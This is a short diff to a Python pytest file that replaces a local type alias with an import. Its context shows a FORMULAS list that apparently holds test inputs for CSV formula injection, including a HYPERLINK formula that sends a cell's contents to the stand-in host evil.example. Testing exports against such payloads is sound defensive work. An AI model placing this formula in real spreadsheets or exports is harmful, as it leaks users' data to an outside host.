@@ -5,12 +5,11 @@ from __future__ import annotations
 import csv
 import io
 import json
-from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
-Run = Callable[..., tuple[object, str, str]]
+from tests.command_line import Run
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"x")',
